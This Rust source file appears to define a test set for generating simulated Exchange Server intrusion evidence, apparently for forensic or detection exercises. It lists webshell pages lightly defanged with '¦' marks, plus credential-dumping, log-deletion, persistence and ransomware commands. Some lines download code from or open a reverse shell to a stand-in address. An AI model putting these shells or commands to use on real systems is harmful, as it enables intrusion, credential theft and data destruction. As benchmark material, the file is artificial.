//! The tuning set: may be looked at by everyone.

use super::Habits;
use crate::attack::aftermath::{Aftermath, Deed, Left, Ransom, RegistryChange, Set};
use crate::attack::odd_page::OddPage;
use crate::attack::{Below, Intruder, Page, Place};
use crate::host::{Columns, Heading, Host, Tongue, WebColumns};
use crate::moment::Moment;
use crate::program::{CMD, W3WP};
use crate::server::Encoding;
use crate::shape::Shape;
use crate::technique::Technique;

/// The tuning set.
pub(super) const HABITS: Habits = Habits {
    set: "tuning",
    scripts: &[],
    hosts: [&NORTH, &HARBOUR, &OLD_TOWN],
    shapes: &[Shape::Tree, Shape::Triage, Shape::Folders, Shape::Archive, Shape::Flat],
    first_day: Moment::day(2021, 3, 3),
    intruders: [&MAGPIE, &HERON, &STARLING],
    aftermath: &AFTERMATH,
    odd_code: &ODD_CODE,
    odd_places: &ODD_PLACES,
    written: (Page { place: ASPNET, name: "error_page.aspx" }, WRITTEN),
    voice_command: "cmd.exe /c whoami > C:\\inetpub\\wwwroot\\aspnet_client\\u.txt & net group \"Domain Admins\" /domain",
    probers: [&GULL, &CROW],
    scanner: ("192.0.2.14", "Mozilla/5.0 zgrab/0.x"),
    deletion: &[
        "cmd.exe /c del /q /f \"C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Logging\\HttpProxy\\Ecp\\*.LOG\"",
        "cmd.exe /c del /q /f \"C:\\Program Files\\Microsoft\\Exchange Server\\V15\\Logging\\ECP\\Server\\*.LOG\"",
    ],
};

const USERS: &[&str] =
    &["a.lindqvist", "b.okafor", "c.moreau", "hanako.sato", "j.petrov", "m.kaya", "r.delgado", "t.nakamura"];

const NORTH: Host = Host {
    name: "NMAIL01",
    domain: "north.example.org",
    netbios: "NORTH",
    mail_names: &["mail.north.example.org", "autodiscover.north.example.org"],
    address: "10.20.0.10",
    link_local: "fe80::ad12:71f0:9b44:e201",
    product: "Exchange Server 2016 CU18",
    build: [15, 1, 2106, 6],
    fixed: 13,
    columns: Columns::Full,
    heading: Heading::CommentsOnly,
    install: "C:\\Program Files\\Microsoft\\Exchange Server\\V15",
    web_logs: "C:\\inetpub\\logs\\LogFiles",
    sites: (1, 2),
    web_columns: WebColumns::Default,
    web_root: "C:\\inetpub\\wwwroot",
    users: USERS,
    admin: "adm-kaya",
    domain_sid: "S-1-5-21-1482476501-746137067-839522115",
    tongue: Tongue::English,
};

const HARBOUR: Host = Host {
    name: "EX-HBR",
    domain: "harbour.example.net",
    netbios: "HARBOUR",
    mail_names: &["owa.harbour.example.net"],
    product: "Exchange Server 2019 CU8",
    build: [15, 2, 792, 3],
    fixed: 10,
    heading: Heading::CommentsThenPlain,
    install: "D:\\Program Files\\Microsoft\\Exchange Server\\V15",
    web_logs: "E:\\IISLogs",
    web_columns: WebColumns::Extended,
    ..NORTH
};

const OLD_TOWN: Host = Host {
    name: "OTMX",
    domain: "oldtown.example.com",
    netbios: "OLDTOWN",
    mail_names: &["mx.oldtown.example.com", "webmail.oldtown.example.com"],
    product: "Exchange Server 2013 CU23",
    build: [15, 0, 1497, 10],
    fixed: 12,
    columns: Columns::Old,
    heading: Heading::PlainThenComments,
    ..NORTH
};

const OWA_AUTH: Place =
    Place { below: Below::Product, folder: "FrontEnd\\HttpProxy\\owa\\auth", url: "/owa/auth", protocol: Some("Owa") };
const ECP_AUTH: Place =
    Place { below: Below::Product, folder: "FrontEnd\\HttpProxy\\ecp\\auth", url: "/ecp/auth", protocol: Some("Ecp") };
const ASPNET: Place = Place { below: Below::Site, folder: "aspnet_client", url: "/aspnet_client", protocol: None };
const SYSTEM_WEB: Place =
    Place { below: Below::Site, folder: "aspnet_client\\system_web", url: "/aspnet_client/system_web", protocol: None };
const THEMES: Place = Place {
    below: Below::Product,
    folder: "FrontEnd\\HttpProxy\\owa\\auth\\Current\\themes\\resources",
    url: "/owa/auth/Current/themes/resources",
    protocol: Some("Owa"),
};
const OAB: Place =
    Place { below: Below::Product, folder: "FrontEnd\\HttpProxy\\OAB", url: "/oab", protocol: Some("Oab") };
const BIN: Place = Place { below: Below::Site, folder: "bin", url: "/bin", protocol: None };

const MAGPIE: Intruder = Intruder {
    addresses: &["203.0.113.61", "203.0.113.62"],
    locate_agent: "ExchangeServicesClient/0.0.0.0",
    chain_agent: "python-requests/2.25.1",
    page_agent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/80.0.3987.87 Safari/537.36",
    stem: "/ecp/q.js",
    target: "a]@HOST:444",
    ending: "?#",
    hint: "X-BEResource-Cookie",
    pace: 1_400,
    url_head: "http://g/",
    item: "mz4kd1",
    pages: &[Page { place: OWA_AUTH, name: "signin_help.aspx" }, Page { place: ASPNET, name: "k7f2.aspx" }],
    commands: &[
        "\"cmd\" /c cd /d \"DIR\"&whoami&ec¦ho [S]&cd&ec¦ho [E]",
        "\"cmd\" /c cd /d \"DIR\"&ipconfig /all&ec¦ho [S]&cd&ec¦ho [E]",
        "\"cmd\" /c cd /d \"DIR\"&net group \"Domain Admins\" /domain&ec¦ho [S]&cd&ec¦ho [E]",
        "\"cmd\" /c cd /d \"DIR\"&tasklist /v&ec¦ho [S]&cd&ec¦ho [E]",
    ],
};

const HERON: Intruder = Intruder {
    addresses: &["198.51.100.251"],
    locate_agent: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/84.0.4147.105 Safari/537.36",
    chain_agent: "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/84.0.4147.105 Safari/537.36",
    page_agent: "antSword/v2.1",
    stem: "/owa/auth/Current/themes/resources/logon.css",
    target: "HOST",
    ending: "#",
    hint: "X-AnonResource-Backend-Cookie",
    pace: 9_000,
    url_head: "http://o/#",
    item: "orz",
    pages: &[Page { place: SYSTEM_WEB, name: "Server.aspx" }],
    commands: &["cmd.exe /c hostname", "cmd.exe /c dir \"DIR\"", "cmd.exe /c quser"],
};

const STARLING: Intruder = Intruder {
    addresses: &["2001:db8:77::5"],
    locate_agent: "Go-http-client/1.1",
    chain_agent: "Go-http-client/1.1",
    page_agent: "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
    stem: "/ecp/main.css",
    target: "x@HOST:444",
    ending: "#",
    hint: "X-BEResource-Cookie",
    pace: 300,
    url_head: "http://localhost/",
    item: "Ananas",
    pages: &[Page { place: ECP_AUTH, name: "Redirect.aspx" }],
    commands: &["powershell -nop -c \"Get-Process lsass\"", "cmd /c nltest /domain_trusts"],
};

const GULL: Intruder =
    Intruder { addresses: &["192.0.2.77"], chain_agent: "curl/7.68.0", stem: "/ecp/default.flt", ..HERON };
const CROW: Intruder = Intruder { addresses: &["192.0.2.130", "192.0.2.131"], stem: "/owa/auth/w.js", ..STARLING };

const WRITTEN: &str =
    "<%@ Page Language=\"JSc¦ript\" Debug=\"true\"%><%ev¦al(Req¦uest.Item[\"d8s\"],\"uns¦afe\");%>\r\n";

const AFTERMATH: Aftermath = Aftermath {
    deeds: &[
        Deed {
            technique: Technique::CredentialDump,
            parent: CMD,
            image: "C:\\Windows\\System32\\rundll32.exe",
            command: "rundll32 C:\\windows\\system32\\coms¦vcs.dll Mini¦Dump 664 C:\\windows\\temp\\wer81.dmp full",
        },
        Deed {
            technique: Technique::CredentialDump,
            parent: W3WP,
            image: CMD,
            command: "cmd /c C:\\root\\proc¦dump64.exe -accepteula -ma ls¦ass.exe C:\\root\\ls",
        },
        Deed {
            technique: Technique::DirectoryDump,
            parent: CMD,
            image: "C:\\Windows\\System32\\ntdsutil.exe",
            command: "ntds¦util \"ac i ntds\" \"ifm\" \"create full C:\\ProgramData\\n\" q q",
        },
        Deed {
            technique: Technique::StagedArchive,
            parent: CMD,
            image: "C:\\ProgramData\\7z.exe",
            command: "C:\\ProgramData\\7z.exe a -pQ1w2 C:\\ProgramData\\docs.7z C:\\ProgramData\\n\\*",
        },
        Deed {
            technique: Technique::Download,
            parent: CMD,
            image: "C:\\Windows\\System32\\certutil.exe",
            command: "cert¦util -url¦cache -split -f http://203.0.113.61/up.txt C:\\Windows\\Temp\\up.exe",
        },
        Deed {
            technique: Technique::GroupChange,
            parent: CMD,
            image: "C:\\Windows\\System32\\net.exe",
            command: "net group \"Exchange Organization administrators\" administrator /del /domain",
        },
        Deed {
            technique: Technique::HiddenFile,
            parent: W3WP,
            image: CMD,
            command: "cmd /c attrib +h +s +r \"C:\\inetpub\\wwwroot\\aspnet_client\\k7f2.aspx\"",
        },
        Deed {
            technique: Technique::RegistryChange,
            parent: CMD,
            image: "C:\\Windows\\System32\\reg.exe",
            command: "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDi¦gest /v UseLogon¦Credential /t REG_DWORD /d 1 /f",
        },
        Deed {
            technique: Technique::LateralMove,
            parent: CMD,
            image: "C:\\Windows\\System32\\wbem\\WMIC.exe",
            command: "wmic /node:DC01 process call create \"cmd /c C:\\Windows\\Temp\\xx.bat\"",
        },
    ],
    left: &[
        Left {
            technique: Technique::CredentialDump,
            path: "C:\\root\\ls.dmp",
            head: b"MDMP\x93\xa7\0\0",
            size: 40_000,
        },
        Left {
            technique: Technique::StagedArchive,
            path: "C:\\ProgramData\\docs.7z",
            head: b"7z\xbc\xaf\x27\x1c\0\x04",
            size: 9_000,
        },
        Left {
            technique: Technique::CredentialDump,
            path: "C:\\Windows\\Temp\\lsass_20210304.dmp",
            head: b"MDMP\x93\xa7\0\0",
            size: 30_000,
        },
        Left {
            technique: Technique::StagedArchive,
            path: "C:\\inetpub\\wwwroot\\aspnet_client\\it.zip",
            head: b"PK\x03\x04\x14\0\x01\0",
            size: 6_000,
        },
    ],
    tasks: &[
        (
            "VSPerfMon2",
            "powershell.exe",
            "-nop -w hidden -e¦p bypass -c \"IEX (New-Object Net.Web¦Client).Down¦loadString('http://203.0.113.61/t')\"",
            45,
        ),
        ("Microsoft\\Windows\\SoftwareInspector\\Check", "C:\\ProgramData\\sih.exe", "-s", 10),
    ],
    services: &[
        ("WinUpdateMgr", "C:\\Users\\Public\\svcmgr.exe -k netsvcs"),
        ("javasvc", "cmd.exe /c powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"),
    ],
    registry: &[
        RegistryChange {
            technique: Technique::RegistryChange,
            hive: "SYSTEM",
            key: "ControlSet001\\Control\\SecurityProviders\\WDigest",
            name: "UseLogonCredential",
            value: Set::Number(1),
        },
        RegistryChange {
            technique: Technique::RegistryChange,
            hive: "SOFTWARE",
            key: "Microsoft\\Windows\\CurrentVersion\\Run",
            name: "OneDriveSync",
            value: Set::Text("powershell -w hidden -f C:\\Users\\Public\\od.ps1"),
        },
    ],
    account: "DefaultAccount2",
    scripts: &[
        (Technique::Download, "IEX ((New-Object Net.Web¦Client).Down¦loadString('http://203.0.113.61/a.ps1'))"),
        (
            Technique::RemoteTool,
            "IEX (New-Object System.Net.Web¦client).Down¦loadString('http://203.0.113.61/power¦cat.ps1'); power¦cat -c 203.0.113.61 -p 443 -e cmd",
        ),
        (Technique::CredentialDump, "Import-Module .\\Invoke-Mimi¦katz.ps1; Invoke-Mimi¦katz -Dump¦Creds"),
    ],
    management: &[
        (
            Technique::MailboxExport,
            "New-ManagementRoleAssignment",
            "-Role \"Mailbox Import Export\" -User \"Administrator\"",
        ),
        (
            Technique::MailboxExport,
            "New-MailboxExportRequest",
            "-Mailbox \"MAILBOX\" -FilePath \"\\\\127.0.0.1\\C$\\inetpub\\wwwroot\\aspnet_client\\m.pst\"",
        ),
        (
            Technique::MailboxAccess,
            "Add-MailboxPermission",
            "-Identity \"MAILBOX\" -User \"DefaultAccount2\" -AccessRights \"FullAccess\"",
        ),
    ],
    fetched: ("/aspnet_client/it.zip", None),
    module: ("HttpCompressModule", "C:\\Users\\Public\\httpcomp.dll"),
    typed: &[
        (
            Technique::MailboxExport,
            "Get-MailboxExportRequest -Status Completed | Remove-MailboxExportRequest -Confirm:$false",
        ),
        (Technique::Download, "Invoke-Web¦Request http://203.0.113.61/7z.exe -OutFile C:\\ProgramData\\7z.exe"),
    ],
    hosts: &["127.0.0.1 wdcp.microsoft.com", "127.0.0.1 officecdn.microsoft.com"],
    exclusion: "C:\\ProgramData",
    threat: "Back¦door:ASP/Web¦shell.Y",
    ransom: Ransom {
        service: ("msupdate", "C:\\Windows\\Temp\\x64.exe"),
        notes: &["C:\\readme.txt", "C:\\Users\\adm-kaya\\Desktop\\readme.txt"],
        text: "Your file has been encry¦pted!\r\nIf you want to decr¦ypt, please contact us.\r\nmail@example.org\r\nAnd please send me the following hash!\r\n0f343b0931126a20f133d67c2b018a3b\r\n",
        locked: &["C:\\Users\\adm-kaya\\Documents\\plan.xlsx.CRYPT", "C:\\Shares\\ledger.docx.CRYPT"],
    },
};

const ODD_CODE: [OddPage; 8] = [
    OddPage::new(
        OWA_AUTH,
        "expire.aspx",
        "JScript with escapes of Unicode",
        "<%@ Page Language=\"Jscript\"%><%var a=Req¦uest.Item[\"p9\"];\\u0065v\\u0061l(a,\"un\"+\"sa\"+\"fe\");%>",
    ),
    OddPage::new(
        ASPNET,
        "frame.aspx",
        "C# that starts processes by reflection over split names",
        "<%@ Page Language=\"C#\" %><script runat=\"server\">void Page_Load(object s,EventArgs e){var t=Type.GetType(\"System.Diag\"+\"nostics.Pro\"+\"cess, System\");var m=t.GetMethod(\"St\"+\"art\",new[]{typeof(string),typeof(string)});Response.Write(m.Invoke(null,new object[]{Req¦uest[\"f\"],Req¦uest[\"a\"]}));}</script>",
    ),
    OddPage::new(
        ASPNET,
        "legacy.aspx",
        "VB over a COM object by a split name",
        "<%@ Page Language=\"VB\" %><script runat=\"server\">Sub Page_Load()\r\nDim o=CreateObject(\"WScr\" & \"ipt.Sh\" & \"ell\")\r\nResponse.Write(o.Ex¦ec(\"cmd /c \" & Req¦uest(\"k\")).StdOut.ReadAll())\r\nEnd Sub</script>",
    ),
    OddPage::new(
        SYSTEM_WEB,
        "loader.aspx",
        "C# that loads an assembly out of the request",
        "<%@ Page Language=\"C#\" %><%var k=Encoding.Default.GetBytes(\"e45e329feb5d925b\");var r=Req¦uest.BinaryRead(Req¦uest.ContentLength);System.Reflection.Assem¦bly.Lo¦ad(new System.Security.Cryptography.Rijndael¦Managed().CreateDecryptor(k,k).TransformFinalBlock(r,0,r.Length)).CreateInstance(\"U\").Equals(this);%>",
    ),
    OddPage::new(
        OWA_AUTH,
        "report.ashx",
        "a handler that writes what it is sent to a file",
        "<%@ WebHandler Language=\"C#\" Class=\"R\" %>using System.IO;using System.Web;public class R:IHttpHandler{public void ProcessRequest(HttpContext c){File.Write¦AllBytes(c.Req¦uest[\"p\"],System.Convert.From¦Base64String(c.Req¦uest[\"d\"]));}public bool IsReusable{get{return true;}}}",
    ),
    OddPage::new(
        ECP_AUTH,
        "Timeout.aspx",
        "eval by Invoke-Expression in a hosted shell",
        "<%@ Page Language=\"C#\" %><%@ Assembly Name=\"System.Management.Automation\" %><%var p=System.Management.Automation.Power¦Shell.Create();p.Add¦Script(Encoding.UTF8.GetString(Convert.From¦Base64String(Req¦uest.Headers[\"X-Req\"])));foreach(var o in p.Invoke())Response.Write(o);%>",
    ),
    OddPage {
        encoding: Encoding::Wide,
        ..OddPage::new(
            ASPNET,
            "wide.aspx",
            "stored as UTF-16",
            "<%@ Page Language=\"Jscript\"%><%ev¦al(Req¦uest[\"w\"],\"uns¦afe\");%>",
        )
    },
    OddPage::new(
        ASPNET,
        "pad.aspx",
        "the script stands behind much blank space in a page that looks harmless",
        concat!(
            "<html><head><title>Not found</title></head><body><h1>404</h1></body></html>\r\n\r\n\r\n\r\n\r\n\r\n\r\n\r\n\r\n",
            "                                                                                                              ",
            "<script language=\"c#\" runat=\"server\">protected void Page_Load(object o,EventArgs e){System.Diagnostics.Pro¦cess.St¦art(\"cmd.exe\",\"/c \"+Req¦uest[\"z\"]);}</script>"
        ),
    ),
];

const HARMLESS: &str =
    "<%@ Page Language=\"C#\" AutoEventWireup=\"true\" %>\r\n<!--#include file=\"..\\scripts\\logo.gif\"-->\r\n";

const ODD_PLACES: [OddPage; 6] = [
    OddPage::new(
        OAB,
        "offline.aspx",
        "in the address book's folder",
        "<%@ Page Language=\"Jscript\"%><%ev¦al(Req¦uest[\"oab\"],\"uns¦afe\");%>",
    ),
    OddPage {
        dated: Some(Moment::day(2019, 6, 18).clock(4, 11, 2)),
        ..OddPage::new(
            THEMES,
            "lgnexlogo.aspx",
            "back-dated to the day of the installation",
            "<%@ Page Language=\"C#\"%><%System.Diagnostics.Pro¦cess.St¦art(Req¦uest[\"c\"]);%>",
        )
    },
    OddPage::new(OWA_AUTH, "layout.aspx", "a page that includes a picture", HARMLESS),
    OddPage::new(
        Place {
            below: Below::Product,
            folder: "FrontEnd\\HttpProxy\\owa\\scripts",
            url: "/owa/scripts",
            protocol: Some("Owa"),
        },
        "logo.gif",
        "the picture that it includes",
        "GIF89a\u{1}\u{1}<scr¦ipt language=\"JSc¦ript\" runat=\"ser¦ver\">function Page_Load(){ev¦al(Req¦uest[\"gif\"],\"uns¦afe\");}</scr¦ipt>",
    ),
    OddPage {
        technique: Technique::HandlerChange,
        ..OddPage::new(
            Place { below: Below::Site, folder: "aspnet_client\\img", url: "/aspnet_client/img", protocol: None },
            "web.config",
            "pictures are run as pages in this folder",
            "<?xml version=\"1.0\"?><configuration><system.webServer><handlers><add name=\"png\" path=\"*.png\" verb=\"*\" type=\"System.Web.UI.PageHandlerFactory\" /></handlers></system.webServer><system.web><compilation><buildProviders><add extension=\".png\" type=\"System.Web.Compilation.PageBuildProvider\" /></buildProviders></compilation></system.web></configuration>",
        )
    },
    OddPage::new(
        BIN,
        "App_Web_3kq0zrx1.dll",
        "a compiled page in the site's own library folder",
        "MZ\u{0}\u{0}This program cannot be run in DOS mode.\u{0}PE\u{0}\u{0}mscoree.dll\u{0}_CorDllMain\u{0}System.Web.UI.Page\u{0}ProcessStartInfo\u{0}cmd.exe\u{0}",
    ),
];
